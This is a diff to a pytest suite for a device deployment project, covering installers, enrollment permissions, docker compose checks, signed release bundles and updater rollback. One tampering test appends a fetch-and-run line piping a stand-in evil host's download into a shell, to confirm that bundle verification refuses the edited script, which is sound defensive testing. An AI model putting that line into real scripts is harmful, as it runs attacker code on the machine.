@@ -136,6 +136,7 @@ STAND_INS = {
     "/opt/passby/current/venv/bin/cloud-bridge",
     "/usr/bin/python3",
     "/usr/bin/systemctl",
+    "/bin/sh",
 }
 
 
@@ -174,7 +175,7 @@ def test_systemd_analyze_verify_units(staged_root: Path) -> None:
     missing = set()
     for name in names:
         unit = parse_unit(staged_root / "etc/systemd/system" / name)
-        for exe in values(unit, "Service", "ExecStart"):
+        for exe in values(unit, "Service", "ExecStart") + values(unit, "Service", "ExecStartPre"):
             binary = exe.split()[0].lstrip("-@:+!")
             if not (staged_root / binary.lstrip("/")).exists():
                 missing.add(binary)
@@ -355,8 +356,7 @@ def test_edge_install_dry_run_prints_every_step_in_order_and_writes_nothing() ->
     last_title, last = got[-1]
     assert last_title.startswith("enroll")
     assert re.search(
-        r"would run: \S+/edge-agent enroll \*\*\* --bridge https://bridge.example.com "
-        r"--out /etc/passby --data-dir /var/lib/passby\n",
+        r"would run: /opt/passby/lib/passby-enroll.sh \*\*\* --bridge https://bridge.example.com\n",
         last,
     )
     assert "K7QX-93FD" not in res.stdout + res.stderr, "the pairing code is a secret"
@@ -406,6 +406,127 @@ def test_edge_install_from_a_signed_release_verifies_it_first() -> None:
     assert "passby_update.py install /tmp/passby-edge-1.0.0.tar --pubkey " + "ab" * 32 in agent
     assert "pip install" not in agent
     assert "PASSBY_UPDATE_URL=https://releases.example/latest.tar" in res.stdout
+
+
+def test_edge_install_force_re_pairs() -> None:
+    """Re-pairing after `sensors add --rotate` needs enroll --force: install.sh passes it on."""
+    res = sh(EDGE / "install.sh", "--dry-run", "--enroll", "K7QX-93FD", "--bridge",
+             "https://bridge.example.com", "--force")  # fmt: skip
+    assert res.returncode == 0, res.stderr
+    assert "passby-enroll.sh *** --bridge https://bridge.example.com --force\n" in res.stdout
+
+
+def test_passby_enroll_sets_permissions_before_the_agent_can_start(tmp_path: Path) -> None:
+    """The path unit would start the agent as soon as edge.toml appears: passby-enroll.sh stops
+    it first, makes /etc/passby readable by the agent's group, then starts path and agent."""
+    import grp
+
+    log = tmp_path / "log"
+    etc = tmp_path / "etc"
+    etc.mkdir()
+    systemctl = tmp_path / "systemctl"
+    # The stub notes, at each call, whether the agent could read its config yet.
+    systemctl.write_text(
+        f'#!/bin/sh\nreadable=no\n[ "$(stat -c %G {etc}/edge.toml 2>/dev/null)" = "{GROUP}" ] '
+        f'&& [ "$(stat -c %a {etc}/edge.toml)" = 640 ] && readable=yes\n'
+        f'echo "systemctl $* readable=$readable" >> {log}\n'
+    )
+    agent = tmp_path / "edge-agent"
+    # Like the real enroll: the directory 0700, the files 0600, root's group.
+    agent.write_text(
+        f'#!/bin/sh\necho "agent $*" >> {log}\nchmod 0700 {etc}\n'
+        f"umask 077; echo 'store_id = \"main-st\"' > {etc}/edge.toml; echo s > {etc}/site.key\n"
+    )
+    for f in (systemctl, agent):
+        f.chmod(0o755)
+    env = {"PASSBY_ETC": str(etc), "PASSBY_STATE": str(tmp_path / "state"),
+           "PASSBY_AGENT": str(agent), "PASSBY_SYSTEMCTL": str(systemctl), "PASSBY_GROUP": GROUP}  # fmt: skip
+    res = sh(EDGE / "passby-enroll.sh", "K7QX-93FD", "--bridge", "https://b.example", "--force",
+             env=env)  # fmt: skip
+    assert res.returncode == 0, res.stderr
+    lines = log.read_text().splitlines()
+    assert lines[0].startswith("systemctl stop passby-agent.path passby-agent.service")
+    assert lines[1] == (
+        f"agent enroll K7QX-93FD --bridge https://b.example --out {etc} "
+        f"--data-dir {tmp_path / 'state'} --force"
+    )
+    assert lines[2:] == [
+        "systemctl start passby-agent.path readable=yes",
+        "systemctl restart passby-agent.service readable=yes",
+    ]
+    assert stat.S_IMODE(etc.stat().st_mode) == 0o2750
+    assert grp.getgrgid(etc.stat().st_gid).gr_name == GROUP
+    assert stat.S_IMODE((etc / "site.key").stat().st_mode) == 0o640
+    assert "K7QX-93FD" not in res.stdout + res.stderr
+
+
+GROUP = "daemon"  # any group other than root's, present on Debian
+
+
+def test_edge_install_from_a_bundle_pins_the_key_and_turns_updates_on(
+    built_release: tuple[Path, Path, str], tmp_path: Path
+) -> None:
+    """From an unpacked bundle, with no key or URL given: the bundle is verified, its box
+    release installed, its key pinned and the update source set, so passby-update.service's
+    conditions hold and the timer has something to do."""
+    dist, key, pub = built_release
+    v = _version()
+    with tarfile.open(dist / f"passby-{v}.tar.gz") as tar:
+        tar.extractall(tmp_path, filter="data")
+    bundle = tmp_path / f"passby-{v}"
+    root = tmp_path / "root"
+    res = sh(bundle / "deploy/edge/install.sh", "--destdir", root, "--enroll", "K7QX-93FD",
+             "--bridge", "https://bridge.example.com")  # fmt: skip
+    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
+    agent = next(b for t, b in steps(res.stdout) if t.startswith("agent software"))
+    assert f"passby_update.py verify-bundle {bundle} --pubkey {pub}" in agent
+    assert f"passby_update.py install {bundle}/passby-edge-{v}.tar --pubkey {pub}" in agent
+    assert "pip install" not in agent
+    assert (root / "etc/passby/release-signing.pub").read_text().strip() == pub
+    env = (root / "etc/passby/update.env").read_text()
+    assert env.strip() == "PASSBY_UPDATE_URL=https://updates.example.com/passby-edge-latest.tar"
+    unit = parse_unit(root / "etc/systemd/system/passby-update.service")
+    for path in values(unit, "Unit", "ConditionPathExists"):
+        assert (root / path.lstrip("/")).exists(), f"passby-update.service would skip: {path}"
+    assert "passby-update.timer" in next(b for t, b in steps(res.stdout) if t.startswith("systemd"))
+    # A bundle without an update URL: the bridge it pairs with serves the releases.
+    (bundle / "BUNDLE.json").unlink()
+    upd.sign_bundle(bundle, key, v, PROTOCOL_VERSION)
+    res = sh(bundle / "deploy/edge/install.sh", "--dry-run", "--enroll", "K7QX-93FD",
+             "--bridge", "https://bridge.example.com/")  # fmt: skip
+    assert res.returncode == 0, res.stderr
+    assert (
+        "PASSBY_UPDATE_URL=https://bridge.example.com/releases/passby-edge-latest.tar" in res.stdout
+    )
+    # A bundle signed by another key than the one pinned on the box is refused by verify-bundle.
+    other = tmp_path / "other.key"
+    upd.keygen(other)
+    upd.sign_bundle(bundle, other, v, PROTOCOL_VERSION)
+    with pytest.raises(upd.ReleaseError, match="bad signature"):
+        upd.verify_bundle(bundle, pub)
+
+
+def test_cloud_install_from_a_bundle(built_release: tuple[Path, Path, str], tmp_path: Path) -> None:
+    """From an unpacked bundle the cloud installer verifies it, installs the bridge from its wheel
+    (not a checkout) and puts the box release where GET /releases/passby-edge-latest.tar serves it."""
+    dist, _key, pub = built_release
+    v = _version()
+    with tarfile.open(dist / f"passby-{v}.tar.gz") as tar:
+        tar.extractall(tmp_path, filter="data")
+    bundle = tmp_path / f"passby-{v}"
+    root = tmp_path / "root"
+    res = sh(bundle / "deploy/cloud/install.sh", "--destdir", root, "--domain", "mqtt.example.com")
+    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
+    software = next(b for t, b in steps(res.stdout) if t.startswith("bridge software"))
+    assert f"passby_update.py verify-bundle {bundle} --pubkey {pub}" in software
+    assert f"pip install --quiet {bundle}/passby-{v}-py3-none-any.whl[bridge]" in software
+    served = root / f"var/lib/passby-bridge/releases/passby-edge-{v}.tar"
+    assert served.read_bytes() == (bundle / f"passby-edge-{v}.tar").read_bytes()
+    from cloud_bridge.releases import latest_release
+
+    assert latest_release(served.parent) == served
+    release = json.loads((root / f"opt/passby/releases/{v}/release.json").read_text())
+    assert release["protocol"] == PROTOCOL_VERSION and release["version"] == v
 
 
 def test_edge_install_destdir_files_and_modes(staged_root: Path) -> None:
@@ -602,15 +723,288 @@ def test_bridge_config_example_validates() -> None:
 
 
 def test_compose_file_points_at_real_files() -> None:
-    text = (CLOUD / "docker-compose.yml").read_text()
-    for rel in re.findall(r"- (\.{1,2}/[^:\s]+):", text):
-        p = (CLOUD / rel).resolve()
-        if rel in ("./certs", "./certs/ca.crt", "./bridge.toml"):
-            assert rel.lstrip("./").split("/")[0] in text.split("name: passby")[0]  # made by hand
-            continue
-        assert p.exists(), f"docker-compose.yml mounts missing {rel}"
-    assert "../mosquitto/passby.conf.example" in text
+    compose = _compose()
+    made = {"./certs", "./certs/ca.crt", "./bridge.toml", "./backups"}  # compose/setup.sh
+    for name, svc in compose["services"].items():
+        for vol in svc.get("volumes", []):
+            src = vol.split(":")[0]
+            if not src.startswith("."):
+                assert src in compose["volumes"], f"{name}: undeclared volume {src}"
+            elif src not in made:
+                assert (CLOUD / src).exists(), f"docker-compose.yml ({name}) mounts missing {src}"
+    for secret in compose["secrets"].values():
+        assert secret["file"].startswith("./secrets/")
     assert (CLOUD / "Dockerfile").exists()
+
+
+def test_docs_install_from_real_sources_and_agree_on_the_broker_files() -> None:
+    """No placeholder clone URL or package index; the broker's password/ACL paths are the same
+    in the Mosquitto config, both bridge configs and both READMEs; no pid file advised where
+    the bridge runs unprivileged."""
+    import tomllib
+
+    docs = [ROOT / "README.md", *ROOT.glob("deploy/**/*.md"), *ROOT.glob("hardware/**/*.md")]
+    for doc in docs:
+        text = doc.read_text()
+        assert "example.invalid" not in text, f"{doc.relative_to(ROOT)}: placeholder host"
+        assert not re.search(r"pip install '?passby\[[a-z,]+\]==", text), (
+            f"{doc.relative_to(ROOT)}: installs passby from an index that does not have it"
+        )
+    conf = (ROOT / "deploy/mosquitto/passby.conf.example").read_text()
+    paths = (
+        re.search(r"^password_file (\S+)$", conf, re.M).group(1),  # type: ignore[union-attr]
+        re.search(r"^acl_file (\S+)$", conf, re.M).group(1),  # type: ignore[union-attr]
+    )
+    for toml in (CLOUD / "bridge.toml.example", CLOUD / "compose/bridge.toml.in"):
+        p = tomllib.loads(toml.read_text())["provisioning"]
+        assert (p["password_file"], p["acl_file"]) == paths, toml.name
+        assert "broker_pid_file" not in p, toml.name
+    mosq = (ROOT / "deploy/mosquitto/README.md").read_text()
+    block = re.search(r"```toml\n(.*?)```", mosq, re.S).group(1)  # type: ignore[union-attr]
+    p = tomllib.loads(block)["provisioning"]
+    assert (p["password_file"], p["acl_file"]) == paths
+    assert "broker_pid_file" not in p
+    cloud = (CLOUD / "README.md").read_text()
+    assert all(path in cloud or path.rsplit("/", 1)[0] in cloud for path in paths)
+
+
+def test_docs_agree_that_no_provider_takes_an_idempotency_key() -> None:
+    """README says no provider takes one and the adapters send none (Twilio's POST has no
+    Idempotency-Key header or field): SCALE.md must not claim the opposite."""
+    import inspect
+
+    from cloud_bridge.providers import SmscProvider, TwilioProvider
+
+    for cls in (TwilioProvider, SmscProvider):
+        assert "idempot" not in inspect.getsource(cls.submit).lower(), cls.__name__
+    assert "None of the SMS providers takes an idempotency key" in (ROOT / "README.md").read_text()
+    scale = (CLOUD / "SCALE.md").read_text()
+    assert "gets our idempotency key" not in scale
+    assert "No provider takes an idempotency key" in scale
+
+
+# docker compose: checked statically (no container engine runs here) --------------------------
+MOSQUITTO_IMAGE_GID = 1883  # eclipse-mosquitto's Dockerfile: addgroup -g 1883 mosquitto
+
+
+def _compose() -> dict:  # type: ignore[type-arg]
+    import yaml
+
+    data = yaml.safe_load((CLOUD / "docker-compose.yml").read_text())
+    assert isinstance(data, dict) and isinstance(data["services"], dict)
+    return data
+
+
+def _bridge_image_uid() -> int:
+    """The uid the bridge image runs as, from the Dockerfile (USER and its useradd line)."""
+    text = (CLOUD / "Dockerfile").read_text()
+    user = re.findall(r"^USER (\S+)$", text, flags=re.M)[-1]
+    uid = re.search(rf"useradd [^\n]*--uid (\d+)[^\n]* {user}\b", text)
+    assert uid, f"the Dockerfile's USER {user} has no useradd --uid"
+    return int(uid.group(1))
+
+
+def _mounts(svc: dict) -> dict[str, tuple[str, bool]]:  # type: ignore[type-arg]
+    """container path -> (source, writable)"""
+    out = {}
+    for vol in svc.get("volumes", []):
+        parts = vol.split(":")
+        out[parts[1]] = (parts[0], not (len(parts) > 2 and "ro" in parts[2].split(",")))
+    return out
+
+
+def _cert_names(cert: Path) -> set[str]:
+    from cryptography import x509
+
+    c = x509.load_pem_x509_certificate(cert.read_bytes())
+    san = c.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
+    return {str(v) for v in san.get_values_for_type(x509.DNSName)} | {
+        str(v) for v in san.get_values_for_type(x509.IPAddress)
+    }
+
+
+@pytest.fixture(scope="module")
+def compose_setup(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """compose/setup.sh for real into a scratch directory (as root: it hands secrets to uid 10001)."""
+    need("openssl", "openssl")
+    assert os.geteuid() == 0, "compose/setup.sh hands the secrets to uid 10001: run as root"
+    out = tmp_path_factory.mktemp("compose")
+    res = sh(CLOUD / "compose/setup.sh", "--domain", "mqtt.example.com", "--public-host",
+             "bridge.example.com", "--out", out)  # fmt: skip
+    assert res.returncode == 0, res.stdout + res.stderr
+    return out
+
+
+def test_compose_bridge_config_uses_postgres_and_validates(compose_setup: Path) -> None:
+    import tomllib
+
+    from cloud_bridge.config import BridgeSettings, load_settings
+
+    compose = _compose()
+    conf = tomllib.loads((compose_setup / "bridge.toml").read_text())
+    db = conf["database"]
+    assert db.startswith("postgresql://"), db
+    host = re.match(r"postgresql://[^@/]+@([^:/]+)(?::(\d+))?/(\w+)$", db)
+    assert host, db
+    pg = compose["services"][host.group(1)]
+    assert pg["image"].startswith("postgres:"), f"{host.group(1)} is not the PostgreSQL service"
+    assert pg["environment"]["POSTGRES_DB"] == host.group(3)
+    # libpq finds the password in PGPASSFILE, a secret the bridge has; its line matches the URL.
+    bridge = compose["services"]["bridge"]
+    passfile = bridge["environment"]["PGPASSFILE"]
+    assert passfile.removeprefix("/run/secrets/") in bridge["secrets"]
+    line = (compose_setup / "secrets" / passfile.removeprefix("/run/secrets/")).read_text()
+    user = db.split("//")[1].split("@")[0]
+    pw = (compose_setup / "secrets/postgres.password").read_text().strip()
+    assert line.strip() == f"{host.group(1)}:{host.group(2) or 5432}:{host.group(3)}:{user}:{pw}"
+    assert pg["environment"]["POSTGRES_USER"] == user
+    env = {**os.environ, "PASSBY_DATA_KEY": "ab" * 32}
+    res = sh(Path(sys.executable).parent / "cloud-bridge", "validate-config",
+             compose_setup / "bridge.toml", env=env)  # fmt: skip
+    assert res.returncode == 0, res.stderr
+    assert load_settings(BridgeSettings, compose_setup / "bridge.toml").database_path() == db
+
+
+def test_compose_certificate_names_every_host_the_services_use(compose_setup: Path) -> None:
+    import tomllib
+
+    compose = _compose()
+    conf = tomllib.loads((compose_setup / "bridge.toml").read_text())
+    names = _cert_names(compose_setup / "certs/broker.crt")
+    mqtt_host = conf["mqtt"]["host"]
+    assert mqtt_host in compose["services"], f"[mqtt] host {mqtt_host} is no compose service"
+    assert compose["services"][mqtt_host]["image"].startswith("eclipse-mosquitto")
+    assert mqtt_host in names, f"the broker certificate ({names}) does not name {mqtt_host}"
+    assert conf["provisioning"]["mqtt_host"] in names  # what sensors are told
+    # The port the bridge and sensors use is the broker's TLS listener, published by compose.
+    listener = re.search(r"^listener (\d+)$", (ROOT / "deploy/mosquitto/passby.conf.example")
+                         .read_text(), flags=re.M)  # fmt: skip
+    assert listener and conf["mqtt"]["port"] == int(listener.group(1)) == conf["provisioning"][
+        "mqtt_port"]  # fmt: skip
+    assert f"{listener.group(1)}:{listener.group(1)}" in compose["services"][mqtt_host]["ports"]
+    # The CA the bridge trusts is the one that signed the certificate, mounted where it looks.
+    res = sh("openssl", "verify", "-CAfile", compose_setup / "certs/ca.crt",
+             compose_setup / "certs/broker.crt")  # fmt: skip
+    assert res.returncode == 0, res.stdout + res.stderr
+    mounts = _mounts(compose["services"]["bridge"])
+    assert mounts[conf["mqtt"]["ca_file"]][0] == "./certs/ca.crt"
+    assert _mounts(compose["services"][mqtt_host])["/etc/mosquitto/certs"][0] == "./certs"
+    # Caddy proxies to the bridge's web port and serves the public name of public_url.
+    caddy = (CLOUD / "compose/Caddyfile").read_text()
+    upstream = re.search(r"reverse_proxy (\S+):(\d+)", caddy)
+    assert upstream and upstream.group(1) == "bridge", caddy
+    assert int(upstream.group(2)) == conf["web"]["port"] and conf["web"]["host"] == "0.0.0.0"
+    proxy = compose["services"]["proxy"]
+    assert "443:443" in proxy["ports"] and "{$PASSBY_PUBLIC_HOST}" in caddy
+    env_file = (compose_setup / "compose.env").read_text()
+    assert f"PASSBY_PUBLIC_HOST={conf['public_url'].removeprefix('https://')}" in env_file
+    assert "ports" not in compose["services"]["bridge"], "only the proxy may reach the bridge"
+    # The bridge believes X-Forwarded-* from the proxy's fixed address only, inside the subnet.
+    import ipaddress
+
+    proxy_ip = proxy["networks"]["default"]["ipv4_address"]
+    subnet = compose["networks"]["default"]["ipam"]["config"][0]["subnet"]
+    assert ipaddress.ip_address(proxy_ip) in ipaddress.ip_network(subnet)
+    assert conf["web"]["trusted_proxies"] == [proxy_ip]
+
+
+def test_compose_broker_key_readable_by_the_mosquitto_image_user(compose_setup: Path) -> None:
+    key = (compose_setup / "certs/broker.key").stat()
+    assert key.st_gid == MOSQUITTO_IMAGE_GID and stat.S_IMODE(key.st_mode) == 0o640
+    assert stat.S_IMODE((compose_setup / "certs/ca.key").stat().st_mode) == 0o600
+    assert stat.S_IMODE((compose_setup / "certs").stat().st_mode) == 0o755
+
+
+def test_compose_volume_and_secret_owners_match_the_service_users(
+    compose_setup: Path, tmp_path: Path
+) -> None:
+    """init-volumes.sh run for real on scratch directories gives each named volume to the user
+    that writes it; every service writing a named volume runs as that user (or is 'init')."""
+    compose = _compose()
+    uid = _bridge_image_uid()
+    services = compose["services"]
+    bridge_image = services["bridge"]["image"]
+    init = services["init"]
+    script, auth_path, data_path = init["entrypoint"][1:4]
+    assert _mounts(init)[script][0] == "./compose/init-volumes.sh"
+    auth, data = tmp_path / "auth", tmp_path / "data"
+    auth.mkdir()
+    (auth / "passby.passwd").write_text("")  # left root-owned by an earlier start
+    res = sh("sh", CLOUD / "compose/init-volumes.sh", auth, data)
+    assert res.returncode == 0, res.stderr
+    owners = {
+        _mounts(init)[auth_path][0]: auth.stat(),
+        _mounts(init)[data_path][0]: data.stat(),
+    }
+    a, d = owners["broker-auth"], owners["bridge-data"]
+    assert (a.st_uid, a.st_gid, stat.S_IMODE(a.st_mode)) == (uid, MOSQUITTO_IMAGE_GID, 0o2750)
+    assert (auth / "passby.passwd").stat().st_uid == uid
+    assert (d.st_uid, stat.S_IMODE(d.st_mode)) == (uid, 0o750)
+    for name, svc in services.items():
+        for src, writable in _mounts(svc).values():
+            if src not in owners or not writable or name == "init":
+                continue
+            assert svc.get("image") == bridge_image and "user" not in svc, (
+                f"{name} writes {src} but does not run as the bridge image's user {uid}"
+            )
+            assert "init" in svc["depends_on"], f"{name} must start after init"
+    # The broker reads the auth volume through its group; its readers mount it read-only.
+    assert "broker-auth" in {m[0] for m in _mounts(services["mosquitto"]).values()}
+    # The bridge's secrets are the bridge user's, readable by nobody else.
+    for secret in services["bridge"]["secrets"]:
+        st = (compose_setup / compose["secrets"][secret]["file"]).stat()
+        assert (st.st_uid, stat.S_IMODE(st.st_mode)) == (uid, 0o400), secret
+
+
+def test_compose_backup_job_takes_database_keys_and_broker_files() -> None:
+    compose = _compose()
+    svc = compose["services"]["backup"]
+    loop = (CLOUD / "compose/backup-loop.sh").read_text()
+    mounts = _mounts(svc)
+    assert svc["environment"]["PGHOST"] == "postgres"
+    for opt, source in (("--keys-dir", "bridge-data"), ("--broker-dir", "broker-auth"),
+                        ("--certs-dir", "./certs"), ("--out", "./backups")):  # fmt: skip
+        path = re.search(rf"{opt} (\S+)", loop)
+        assert path, f"backup-loop.sh passes no {opt}"
+        where = next(p for p in mounts if path.group(1).startswith(p))
+        assert mounts[where][0] == source, (opt, mounts[where])
+    script = re.search(r"(/opt/passby/lib/backup-postgres.sh)", loop)
+    assert script and mounts[script.group(1)][0] == "./backup-postgres.sh"
+
+
+def test_compose_mosquitto_entrypoint_reloads_on_change(tmp_path: Path) -> None:
+    """The broker container's entry point sends the broker SIGHUP when the bridge rewrites the
+    password or ACL file (containers cannot signal each other), and refuses to start without."""
+    auth = tmp_path / "auth"
+    auth.mkdir()
+    entry = CLOUD / "compose/mosquitto-entrypoint.sh"
+    env = {**os.environ, "PASSBY_AUTH_DIR": str(auth), "PASSBY_POLL_S": "0.2"}
+    missing = subprocess.run(["sh", str(entry), "true"], env=env, capture_output=True, text=True)
+    assert missing.returncode != 0 and "broker-accounts" in missing.stderr
+    (auth / "passby.passwd").write_text("")
+    (auth / "passby.acl").write_text("")
+    hups = tmp_path / "hups"
+    fake = tmp_path / "broker.sh"
+    fake.write_text(f"#!/bin/sh\ntrap 'echo hup >>{hups}' HUP\ntouch {tmp_path}/started\n"
+                    "while :; do sleep 0.1; done\n")  # fmt: skip
+    fake.chmod(0o755)
+    proc = subprocess.Popen(["sh", str(entry), str(fake)],
+                            env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)  # fmt: skip
+    try:
+        deadline = time.monotonic() + 5
+        while not (tmp_path / "started").exists() and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert (tmp_path / "started").exists(), "the entry point did not start the broker"
+        time.sleep(0.5)
+        assert not hups.exists(), "reloaded without a change"
+        (auth / "passby.acl").write_text("user bridge\n")
+        deadline = time.monotonic() + 5
+        while not hups.exists() and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert hups.exists() and hups.read_text().count("hup") == 1
+    finally:
+        proc.terminate()
+        proc.wait(10)
 
 
 # monitor-setup.sh -----------------------------------------------------------------------------
@@ -850,9 +1244,14 @@ def test_install_upgrade_health_rollback_and_downgrade(tmp_path: Path, keys) -> 
     )
     quick.chmod(0o755)
 
+    built: dict[str, Path] = {}  # one release file per version, as a server publishes it
+
     def install(version: str, **kw):  # type: ignore[no-untyped-def]
+        rel = kw.pop("rel", {})
+        if version not in built:
+            built[version] = release(tmp_path, key, version, **rel)
         return upd.install(
-            str(release(tmp_path, key, version, **kw.pop("rel", {}))),
+            str(built[version]),
             pub,
             prefix,
             python=sys.executable if version == "1.0.0" else str(quick),
@@ -876,10 +1275,36 @@ def test_install_upgrade_health_rollback_and_downgrade(tmp_path: Path, keys) -> 
     assert current() == "releases/1.1.0"
     assert "restart passby-agent.service" in (tmp_path / "systemctl.log").read_text()
 
+    assert upd.update_status(prefix)["result"] == "ok"
     health.write_text("failed\n")
     with pytest.raises(upd.ReleaseError, match="rolled back to 1.1.0"):
         install("1.2.0", restart="passby-agent.service")
     assert current() == "releases/1.1.0"
+    # The failure is reported (the agent sends it in its stats) and readable by the agent.
+    status = upd.update_status(prefix)
+    assert (status["result"], status["version"], status["current"]) == ("failed", "1.2.0", "1.1.0")
+    assert "rolled back to 1.1.0" in status["error"]
+    assert stat.S_IMODE((prefix / "update-status.json").stat().st_mode) == 0o644
+    # The same release next night: verified, then skipped, even though the box is healthy now.
+    health.write_text("active\n")
+    restarts = (tmp_path / "systemctl.log").read_text().count("restart")
+    assert install("1.2.0", restart="passby-agent.service") == "1.1.0"
+    assert current() == "releases/1.1.0"
+    assert (tmp_path / "systemctl.log").read_text().count("restart") == restarts
+    assert upd.update_status(prefix)["result"] == "failed"  # still reported
+    # Asked explicitly it is tried again (and fails again with the box unhealthy).
+    health.write_text("failed\n")
+    with pytest.raises(upd.ReleaseError, match="rolled back"):
+        install("1.2.0", restart="passby-agent.service", retry_failed=True)
+    # A newer release is installed, and the report is cleared.
+    health.write_text("active\n")
+    assert install("1.2.1", restart="passby-agent.service") == "1.2.1"
+    assert upd.update_status(prefix)["result"] == "ok"
+    assert upd.update_status(prefix)["current"] == "1.2.1"
+    health.write_text("failed\n")
+    with pytest.raises(upd.ReleaseError, match="rolled back to 1.2.1"):
+        install("1.2.5", restart="passby-agent.service")
+    assert current() == "releases/1.2.1"
 
     with pytest.raises(upd.ReleaseError, match="refusing to downgrade"):
         install("0.9.0")
@@ -887,10 +1312,96 @@ def test_install_upgrade_health_rollback_and_downgrade(tmp_path: Path, keys) -> 
         install("2.0.0", rel={"protocol": 2})
     with pytest.raises(upd.ReleaseError, match="smoke test"):
         install("1.3.0", rel={"says": "1.0.0"})
-    assert current() == "releases/1.1.0"
-    assert sorted(p.name for p in (prefix / "releases").iterdir()) == ["1.0.0", "1.1.0"]
+    assert current() == "releases/1.2.1"
+    assert sorted(p.name for p in (prefix / "releases").iterdir()) == ["1.1.0", "1.2.1"]
 
-    assert upd.rollback(prefix) == "1.0.0" and current() == "releases/1.0.0"
+    assert upd.rollback(prefix) == "1.1.0" and current() == "releases/1.1.0"
+
+
+# scripts/release.sh ---------------------------------------------------------------------------
+@pytest.fixture(scope="module")
+def built_release(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, str]:
+    """scripts/release.sh for real (wheel build, signing), without the box's dependency wheels
+    (no PyPI here): (out dir, key file, public key hex)."""
+    tmp = tmp_path_factory.mktemp("release")
+    key = tmp / "release-signing.key"
+    pub = upd.keygen(key)
+    res = sh(ROOT / "scripts/release.sh", "--key", key, "--out", tmp / "dist", "--no-deps",
+             "--update-url", "https://updates.example.com/passby-edge-latest.tar", timeout=300)  # fmt: skip
+    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
+    return tmp / "dist", key, pub
+
+
+def _version() -> str:
+    return re.search(r'^version = "(.*)"', (ROOT / "pyproject.toml").read_text(), re.M).group(1)  # type: ignore[union-attr]
+
+
+def test_release_bundle_verifies_with_the_updaters_code(
+    built_release: tuple[Path, Path, str], tmp_path: Path
+) -> None:
+    dist, _key, pub = built_release
+    v = _version()
+    assert sorted(p.name for p in dist.iterdir()) == sorted(
+        [f"passby-{v}-py3-none-any.whl", f"passby-edge-{v}.tar", f"passby-{v}.tar.gz"]
+    )
+    with tarfile.open(dist / f"passby-{v}.tar.gz") as tar:
+        tar.extractall(tmp_path, filter="data")
+    bundle = tmp_path / f"passby-{v}"
+    manifest = upd.verify_bundle(bundle, pub)
+    assert manifest["version"] == v and manifest["protocol"] == PROTOCOL_VERSION
+    assert manifest["update_url"] == "https://updates.example.com/passby-edge-latest.tar"
+    assert (bundle / "release-signing.pub").read_text().strip() == pub
+    for rel in ("deploy/edge/install.sh", "deploy/cloud/install.sh", "deploy/monitoring/passby-alerts.yml",
+                "hardware/README.md", "README.md", f"passby-{v}-py3-none-any.whl"):  # fmt: skip
+        assert rel in manifest["files"], rel
+    # The box release inside is the updater's own format, and the same as the one next to it.
+    assert upd.verify(bundle / f"passby-edge-{v}.tar", pub).version == v
+    assert (bundle / f"passby-edge-{v}.tar").read_bytes() == (
+        dist / f"passby-edge-{v}.tar"
+    ).read_bytes()
+    # The wheel is complete (console CSS and JavaScript; the lead's test_wheel_install runs it).
+    with zipfile.ZipFile(bundle / f"passby-{v}-py3-none-any.whl") as zf:
+        names = set(zf.namelist())
+    assert {
+        "cloud_bridge/console/static/console.css",
+        "cloud_bridge/console/static/campaign.js",
+    } <= names
+    # The updater's command line says the same.
+    res = sh(sys.executable, EDGE / "passby_update.py", "verify-bundle", bundle, "--pubkey", pub)
+    assert res.returncode == 0 and "OK, passby" in res.stdout, res.stderr
+
+
+@pytest.mark.parametrize("change", ["edit", "add", "remove", "resign", "link"])
+def test_tampered_bundles_are_refused(
+    built_release: tuple[Path, Path, str], tmp_path: Path, change: str
+) -> None:
+    dist, _key, pub = built_release
+    v = _version()
+    with tarfile.open(dist / f"passby-{v}.tar.gz") as tar:
+        tar.extractall(tmp_path, filter="data")
+    bundle = tmp_path / f"passby-{v}"
+    script = bundle / "deploy/edge/install.sh"
+    if change == "edit":
+        script.write_text(script.read_text() + "curl https://evil.example | sh\n")
+        needle = "does not match its signed SHA-256"
+    elif change == "add":
+        (bundle / "deploy/edge/extra.sh").write_text("#!/bin/sh\n")
+        needle = "extra ['deploy/edge/extra.sh']"
+    elif change == "remove":
+        (bundle / "hardware/README.md").unlink()
+        needle = "missing ['hardware/README.md']"
+    elif change == "resign":  # a valid signature, by another key
+        other = tmp_path / "other.key"
+        upd.keygen(other)
+        upd.sign_bundle(bundle, other, v, PROTOCOL_VERSION)
+        needle = "bad signature"
+    else:
+        script.unlink()
+        script.symlink_to("/bin/true")
+        needle = "symbolic link"
+    with pytest.raises(upd.ReleaseError) as err:
+        upd.verify_bundle(bundle, pub)
+    assert needle in str(err.value)
 
 
 # sd_notify ------------------------------------------------------------------------------------
@@ -1096,3 +1607,31 @@ def test_guides_use_real_commands_and_options() -> None:
                 seen += 1
     assert seen >= 15, "found too few commands in the guides: is the pattern still right?"
     assert not problems, "\n".join(problems)
+
+
+def test_enroll_on_an_installed_box_does_not_say_run_it_by_hand(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """After `edge-agent enroll` on a box the installer set up, systemd runs the agent: the
+    message says so instead of advising `edge-agent run`; elsewhere (a laptop) it still does."""
+    from types import SimpleNamespace
+
+    from typer.testing import CliRunner
+
+    import edge_agent.cli as cli
+    import edge_agent.enroll
+
+    cfg = SimpleNamespace(store_id="main-st", sensor_id="door-1")
+    monkeypatch.setattr(edge_agent.enroll, "enroll", lambda *a, **k: (tmp_path / "edge.toml", cfg))
+    installed_at = cli.AGENT_UNIT
+    unit = tmp_path / "passby-agent.service"
+    monkeypatch.setattr(cli, "AGENT_UNIT", unit)
+    args = ["enroll", "K7QX-93FD", "--bridge", "https://b.example", "--out", str(tmp_path)]
+    laptop = CliRunner().invoke(cli.app, args)
+    assert laptop.exit_code == 0 and "edge-agent run" in laptop.output
+    unit.write_text("[Service]\n")
+    box = CliRunner().invoke(cli.app, args)
+    assert box.exit_code == 0, box.output
+    assert "edge-agent run" not in box.output and "passby-agent" in box.output
+    shipped = EDGE / "systemd" / unit.name
+    assert shipped.is_file() and str(installed_at) == "/etc/systemd/system/" + shipped.name
